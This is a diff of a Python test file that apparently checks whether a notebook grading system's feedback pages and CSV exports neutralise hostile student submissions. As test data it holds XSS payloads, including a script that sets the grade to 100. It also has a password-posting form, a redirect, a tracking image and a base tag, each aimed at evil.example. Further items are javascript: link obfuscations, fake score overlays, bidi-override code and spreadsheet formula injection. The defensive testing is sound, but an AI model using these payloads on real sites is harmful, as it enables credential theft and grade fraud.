@@ -1,25 +1,25 @@
 """Attacks on who reads the results: active content in pages that students and instructors open."""
 
 import base64
+import contextlib
 import csv
 import json
+import os
 import re
 import subprocess
 import sys
-import time
 import warnings
 from html.parser import HTMLParser
 from types import SimpleNamespace
 
+import forked
 import nbformat
-import pytest
 from nbconvert import HTMLExporter
 from nbgrader.api import Gradebook
-from nbgrader.plugins import CsvExportPlugin
 from nbgrader.server_extensions.formgrader.handlers import template_path
 from traitlets.config import Config, Configurable
 
-from attacks.harness import TRIPLE_ONLY, Attack, code, markdown, notebook, submission
+from attacks.harness import TRIPLE_ONLY, Attack, Fault, Own, Plain, code, markdown, notebook, submission
 from llmlab.grading.export import CheckedCsvExport
 from llmlab.grading.feedback import feedback_page
 from llmlab.grading.graded import graded_notebook
@@ -92,65 +92,111 @@ def contained(result, ground):
     nothing_active(result, ground)
 
 
-def plain_page(text):
-    """The submitted notebook as nbconvert shows it, with the outputs that are stored in it."""
-    with warnings.catch_warnings():
-        warnings.simplefilter("ignore")
-        return render(nbformat.reads(text, 4))
-
-
-def active_in_plain_page(text, *tags):
-    def bites(ground):
-        found = Active(plain_page(text)).found - Active(plain_page(submission())).found
-        assert {f[0] for f in found} & set(tags), found
-
-    return bites
-
-
 def with_cells(*cells):
     return notebook([*json.loads(submission())["cells"], *cells])
 
 
-def with_output(source, data):
-    """A cell that shows something, with the same stored as its output."""
-    output = {"output_type": "display_data", "data": data, "metadata": {}}
-    return with_cells({**code(source), "outputs": [output]})
+def showing(data, metadata=None):
+    """A cell that shows something."""
+    return code(f"from IPython.display import display\ndisplay({data!r}, raw=True, metadata={metadata!r})")
 
 
 def shows(data):
-    return with_output(f"from IPython.display import display\ndisplay({data!r}, raw=True)", data)
+    return with_cells(showing(data))
 
 
 SCRIPT = "<script>parent.grade = 100</script>"
 HANDLER = "<img src=x onerror=alert(1)>"
-MARKDOWN = {
-    "HTML with a script in markdown": (f"# Answer\n\n{SCRIPT} {HANDLER}", ("script", "img")),
-    "frames and objects in markdown": (
-        '<iframe srcdoc="&lt;script&gt;1&lt;/script&gt;"></iframe>\n<object data="x.swf"></object>\n<embed src="x">',
-        ("iframe", "object", "embed"),
+# Where the override stands, letters run from right to left: "7 # 2 * n" reads otherwise than it runs.
+OVERRIDE = "\u202e\u2066"
+OVERRIDDEN = code(f"seven = 7 #{OVERRIDE} n * 2\nprint('{OVERRIDE}stniop 001')")
+PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+# A cell, and a pattern that is in a page where the attack works: an element, an attribute, an address.
+ON_PAGES = {
+    "a script in markdown": (markdown(f"# Answer\n\n{SCRIPT}"), r"<script>parent\.grade"),
+    "a drawing with a handler": (
+        markdown('<svg onload="alert(1)"><circle r="9"/></svg>'), r"<svg[^>]* onload=",
     ),
-    "a page that sends its reader away": ('<meta http-equiv="refresh" content="0; url=//evil.example">', ("meta",)),
-    "a form over the page": (
-        '<form action="//evil.example"><input name="password" style="position:fixed;inset:0"></form>', ("form",),
+    "a frame with a page in its own address": (
+        markdown('<iframe src="data:text/html;base64,PHNjcmlwdD4x"></iframe>'), r"<iframe[^>]* src=.data:text/html",
+    ),
+    "a page that sends its reader away": (
+        markdown('<meta http-equiv="refresh" content="0; url=//evil.example">'), r"<meta[^>]* http-equiv=.refresh",
+    ),
+    "a form that asks for a password and posts it": (
+        markdown('<form action="//evil.example" method="post"><input name="password"><button>Go</button></form>'),
+        r"<form[^>]* action=.//evil",
     ),
     "a style sheet that hides a page and calls home": (
-        "<style>body { display: none; background: url(//evil.example) }</style>", ("style",),
+        markdown("<style>body { display: none; background: url(//evil.example) }</style>"),
+        r"<style>body \{ display: none",
     ),
-    "a link to javascript": ("[my proof](javascript:alert(1))", ("a",)),
-    "a definition of a link to javascript": ("[my proof][p]\n\n[p]: <JavaScript:alert(1)> 'proof'", ("a",)),
-    "a link to a page in its own address": ("[my proof](data:text/html;base64,PHNjcmlwdD4x)", ("a",)),
-    "a link to javascript with a backslash before the colon": (r"[my proof](javascript\:alert(1))", ("a",)),
-    "a link to javascript broken between lines of a quotation": ("> [my proof](\n> javascript:alert(1))", ("a",)),
-    "a definition broken between lines of a quotation": ("> [p]:\n> javascript:alert(1)\n\n[p]", ("a",)),
-    "a link to javascript with a letter by its number": ("[my proof](j&#97;vascript:alert(1))", ("a",)),
-    "a link to javascript with a colon by its name": ("[my proof](javascript&colon;alert(1))", ("a",)),
-    "HTML in a diagram": (f"```mermaid\ngraph TD\n{SCRIPT}\n```", ("script",)),
+    "an address that all links of the page go by": (
+        markdown('<base href="//evil.example/">'), r"<base[^>]* href=.//evil",
+    ),
+    "a link to javascript": (markdown("[my proof](javascript:alert(1))"), r"<a[^>]* href=.javascript:"),
+    "a formula with a link to javascript": (
+        markdown(r"$\href{javascript:alert(1)}{6/6}$"), r"<p>\$\\href\{javascript:",
+    ),
+    "a diagram that is clicked": (
+        markdown('```mermaid\ngraph TD\nA-->B\nclick A href "javascript:alert(1)"\n```'), r'class="mermaid">\s*graph',
+    ),
+    "a picture elsewhere that tells who looks": (
+        markdown("![proof](https://evil.example/seen.png)"), r"<img[^>]* src=.https://evil",
+    ),
+    "a sheet over the page that shows another score": (
+        markdown('<div style="position: fixed; inset: 0; background: white"><h4>Score: 6.0 / 6.0</h4></div>'),
+        r"<div[^>]* style=.position: ?fixed",
+    ),
+    "a heading that looks like nbgrader's": (
+        markdown('</div></div><div class="panel-heading"><h4>toy (Score: 6.0 / 6.0)</h4></div>'),
+        r'<div class="panel-heading"><h4>toy \(Score: 6\.0 / 6\.0\)',
+    ),
+    "a tag of a cell that closes the attribute": (
+        {**code("1"), "metadata": {"tags": ["x' onmouseover='alert(1)"]}}, r"celltag_x' onmouseover='alert",
+    ),
+    "JavaScript that a cell shows": (
+        showing({"application/javascript": "alert('shown')"}), r"<script[^>]*>[^<]*alert\('shown'\)",
+    ),
+    "HTML that a cell shows": (showing({"text/html": HANDLER}), r"<img[^>]* onerror=.?alert"),
+    "markdown that a cell shows": (
+        showing({"text/markdown": "<script>parent.passed = true</script>"}), r"<script>parent\.passed",
+    ),
+    "a picture whose width brings a handler": (
+        showing({"image/png": PIXEL}, {"image/png": {"width": "1 onload=alert(1)"}}), r"<img[^>]* onload=.?alert",
+    ),
+    "a score in a terminal's colours": (
+        code(r"print('\x1b[1;32mScore: 6.0 / 6.0\x1b[0m')"), r'<span class="ansi-green[^>]*>Score: 6\.0',
+    ),
+    "text that runs from right to left": (OVERRIDDEN, f"[{OVERRIDE}]"),
 }  # fmt: skip
+TOGETHER = with_cells(*(cell for cell, _ in ON_PAGES.values()))
 
 
-def markdown_attack(name, source, tags):
-    text = with_cells(markdown(source))
-    return Attack("feedback", name, lambda ground: text, contained, active_in_plain_page(text, *tags))
+def page_attack(name, cell, mark):
+    text = with_cells(cell)
+
+    def is_on_page(graded, ground):
+        assert re.search(mark, graded.page), graded.page[-3000:]
+
+    def is_on_no_page(result, ground):
+        contained(result, ground)
+        for page in pages(result, ground):
+            assert not re.search(mark, page)
+
+    return Attack("feedback", name, lambda ground: text, is_on_no_page, Plain(is_on_page, text=TOGETHER))
+
+
+# What is Markdown for a link to some readers of it only; on our pages all of it is text.
+LINKS = {
+    "of a definition": "[my proof][p]\n\n[p]: <JavaScript:alert(1)> 'proof'",
+    "to a page in its own address": "[my proof](data:text/html;base64,PHNjcmlwdD4x)",
+    "with a backslash before the colon": r"[my proof](javascript\:alert(1))",
+    "broken between lines of a quotation": "> [my proof](\n> javascript:alert(1))",
+    "of a definition broken between lines": "> [p]:\n> javascript:alert(1)\n\n[p]",
+    "with a letter by its number": "[my proof](j&#97;vascript:alert(1))",
+    "with a colon by its name": "[my proof](javascript&colon;alert(1))",
+}
 
 
 SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
@@ -166,27 +212,6 @@ MEASURED = submission(before=f"""
 from llmlab.grading.checks import measured
 measured({SCRIPT!r}, 1, 2, {HANDLER!r})
 """)  # fmt: skip
-
-
-def pasted(show):
-    """Who pastes the text into a page as it is has a script in it."""
-
-    def bites(ground):
-        assert Active(f"<pre>{show(ground)}</pre>").found
-
-    return bites
-
-
-def value_of(text):
-    """What the student's `double` returns or raises."""
-    names = {}
-    for cell in json.loads(text)["cells"]:
-        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "double":
-            exec(cell["source"], names)
-    try:
-        return repr(names["double"](1))
-    except Exception as error:  # noqa: BLE001  its name and message are what is looked at
-        return f"{type(error).__name__}: {error}"
 
 
 def shown_somewhere(text_shown):
@@ -226,25 +251,6 @@ def escapes_contained(result, ground):
         assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", text)
 
 
-def escapes_bite(ground):
-    assert "\x1b]8;;" in ground.plain(ESCAPED)["outputs"]
-
-
-# Where the override stands, letters run from right to left: "7 # 2 * n" reads otherwise than it runs.
-OVERRIDE = "\u202e\u2066"
-OVERRIDDEN = notebook([*json.loads(submission(f"def double(n):\n    return 7 #{OVERRIDE} n * 2"))["cells"], code(f"print('{OVERRIDE}stniop 001')"), markdown(f"{OVERRIDE}stniop 001")])  # fmt: skip
-
-
-def overrides_contained(result, ground):
-    contained(result, ground)
-    for page in pages(result, ground):
-        assert not set(OVERRIDE) & set(page)
-
-
-def overrides_bite(ground):
-    assert OVERRIDE in plain_page(OVERRIDDEN)
-
-
 STUDENT = f'"><{HANDLER[1:]}</title>{SCRIPT}'
 
 
@@ -252,48 +258,43 @@ def student_contained(result, ground):
     nothing_active({**result, "student": STUDENT}, ground)
 
 
-def student_bites(ground):
-    assert Active(f"<title>{STUDENT}</title>").found
-    assert Active(f'<a href="/{STUDENT}">').found
-
-
 FORMULAS = ("=cmd|' /C calc'!A0", "+1+cmd", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1")
 
 
-def exported(ground, plugin):
-    """The student ids of nbgrader's export with these students."""
-    gradebook = Gradebook(f"sqlite:///{ground.folder}/gradebook.db")
-    try:
+def students_in(file):
+    with file.open(newline="") as handle:
+        return [row["student_id"] for row in csv.DictReader(handle)]
+
+
+@contextlib.contextmanager
+def gradebook_of_formulas(ground):
+    with Gradebook(f"sqlite:///{ground.folder}/gradebook.db") as gradebook:
         gradebook.add_assignment("toy")
         for formula in FORMULAS:
             gradebook.add_student(formula)
-        parent = Configurable()
-        parent.coursedir = SimpleNamespace(root=str(ground.folder))
-        plugin(parent=parent, to=str(ground.folder / "grades.csv")).export(gradebook)
-    finally:
-        gradebook.close()
-    with (ground.folder / "grades.csv").open(newline="") as file:
-        return [row["student_id"] for row in csv.DictReader(file)]
+        yield gradebook
 
 
 def formulas_contained(result, ground):
-    for student in exported(ground, CheckedCsvExport):
-        assert student[:1] not in tuple("=+-@\t\r")
+    parent, file = Configurable(), ground.folder / "grades.csv"
+    parent.coursedir = SimpleNamespace(root=str(ground.folder), submitted_directory="submitted")
+    with gradebook_of_formulas(ground) as gradebook:
+        CheckedCsvExport(parent=parent, to=str(file)).export(gradebook)
+    assert len(students_in(file)) == len(FORMULAS)
+    assert not [student for student in students_in(file) if student[:1] in tuple("=+-@\t\r")]
 
 
 def formulas_bite(ground):
-    assert "=cmd|' /C calc'!A0" in exported(ground, CsvExportPlugin)
+    """Plain nbgrader's own export."""
+    with gradebook_of_formulas(ground):
+        pass
+    done = forked.run("nbgrader", "export", "--to=plain.csv", cwd=ground.folder, env=os.environ)
+    assert done.returncode == 0, done.stderr
+    assert "=cmd|' /C calc'!A0" in students_in(ground.folder / "plain.csv")
 
 
-# nbconvert raises on a picture that is not attached: the whole submission could not be looked at.
+# nbconvert raises on a picture that is not attached: there is no feedback at all.
 UNATTACHED = with_cells(markdown(r"![a picture](attachment\:picture.png)"))
-
-
-def unattached_bites(ground):
-    from nbconvert.filters.markdown_mistune import InvalidNotebook
-
-    with pytest.raises(InvalidNotebook):
-        plain_page(UNATTACHED)
 
 
 # A hundred thousand blanks where a link's target may follow: a pattern that tries each way of splitting them never ends.
@@ -312,59 +313,30 @@ def blanks_contained(result, ground):
     subprocess.run([sys.executable, "-c", PAGES], input=json.dumps(result).encode(), timeout=10, check=True)
 
 
-def blanks_bite(ground):
-    """Twice the blanks take four times as long."""
-    pattern = re.compile(r"\]:\s*<?\s*[a-z]+\s*:")
-    took = []
-    for blanks in (4000, 8000):
-        start = time.perf_counter()
-        pattern.search("]:" + " " * blanks)
-        took.append(time.perf_counter() - start)
-    assert took[1] > 3 * took[0]
+def has_no_page(graded, ground):
+    assert graded.score == TRIPLE_ONLY
+    assert not graded.page
 
 
 ATTACKS = [
-    *(markdown_attack(name, *what) for name, what in MARKDOWN.items()),
-    Attack(
-        "feedback", "a picture that is none", lambda g: shows(PICTURE), contained,
-        active_in_plain_page(shows(PICTURE), "img"),
-    ),
-    Attack(
-        "feedback", "outputs of HTML, JavaScript and SVG", lambda g: shows(ACTIVE_OUTPUT), contained,
-        active_in_plain_page(shows(ACTIVE_OUTPUT), "script"),
-    ),
-    Attack(
-        "feedback", "HTML that a cell prints", lambda g: PRINTED, shown_somewhere(HANDLER),
-        pasted(lambda g: g.plain(PRINTED)["outputs"]),
-    ),
-    Attack(
-        "feedback", "HTML in the name of an error", lambda g: NAMED, shown_somewhere(SCRIPT),
-        pasted(lambda g: g.plain(NAMED)["outputs"]),
-    ),
-    Attack(
-        "feedback", "HTML in a returned value", lambda g: RETURNED, shown_somewhere(SCRIPT),
-        pasted(lambda g: value_of(RETURNED)),
-    ),
-    Attack(
-        "feedback", "HTML in what an answer raises", lambda g: RAISED, shown_somewhere(SCRIPT),
-        pasted(lambda g: value_of(RAISED)),
-    ),
-    Attack(
-        "feedback", "HTML in an object's repr and type", lambda g: OBJECT, shown_somewhere(SCRIPT),
-        pasted(lambda g: value_of(OBJECT)),
-    ),
-    Attack(
-        "feedback", "HTML that closes the element around the code", lambda g: SOURCE, shown_somewhere(SCRIPT),
-        pasted(lambda g: SOURCE),
-    ),
-    Attack(
-        "feedback", "HTML in the name of a measurement", lambda g: MEASURED, measured_contained,
-        pasted(lambda g: g.plain(MEASURED)["outputs"]),
-    ),
-    Attack("feedback", "escape codes for a terminal", lambda g: ESCAPED, escapes_contained, escapes_bite),
-    Attack("feedback", "text that runs from right to left", lambda g: OVERRIDDEN, overrides_contained, overrides_bite),
-    Attack("feedback", "HTML in a student's id", lambda g: submission(), student_contained, student_bites),
-    Attack("feedback", "formulas in students' ids", lambda g: submission(), formulas_contained, formulas_bite),
-    Attack("feedback", "a picture that is not attached", lambda g: UNATTACHED, contained, unattached_bites),
-    Attack("feedback", "a hundred thousand blanks in a link", lambda g: BLANKS, blanks_contained, blanks_bite),
+    *(page_attack(name, *what) for name, what in ON_PAGES.items()),
+    Attack("feedback", "a picture that is not attached", lambda g: UNATTACHED, contained, Plain(has_no_page)),
+    Attack("feedback", "formulas in students' ids", lambda g: submission(), formulas_contained, Own(formulas_bite)),
+]
+FAULTS = [
+    *(Fault(f"a link to javascript {how}", lambda g, link=link: with_cells(markdown(link)), contained) for how, link in LINKS.items()),
+    Fault("frames and objects", lambda g: with_cells(markdown('<object data="x.swf"></object>\n<embed src="x">')), contained),
+    Fault("HTML in a diagram", lambda g: with_cells(markdown(f"```mermaid\ngraph TD\n{SCRIPT}\n```")), contained),
+    Fault("a picture that is none", lambda g: shows(PICTURE), contained),
+    Fault("outputs of HTML, JavaScript and SVG at once", lambda g: shows(ACTIVE_OUTPUT), contained),
+    Fault("HTML that a cell prints", lambda g: PRINTED, shown_somewhere(HANDLER)),
+    Fault("HTML in the name of an error", lambda g: NAMED, shown_somewhere(SCRIPT)),
+    Fault("HTML in a returned value", lambda g: RETURNED, shown_somewhere(SCRIPT)),
+    Fault("HTML in what an answer raises", lambda g: RAISED, shown_somewhere(SCRIPT)),
+    Fault("HTML in an object's repr and type", lambda g: OBJECT, shown_somewhere(SCRIPT)),
+    Fault("HTML that closes the element around the code", lambda g: SOURCE, shown_somewhere(SCRIPT)),
+    Fault("HTML in the name of a measurement", lambda g: MEASURED, measured_contained),
+    Fault("escape codes for a terminal", lambda g: ESCAPED, escapes_contained),
+    Fault("HTML in a student's id", lambda g: submission(), student_contained),
+    Fault("a hundred thousand blanks in a link", lambda g: BLANKS, blanks_contained),
 ]  # fmt: skip
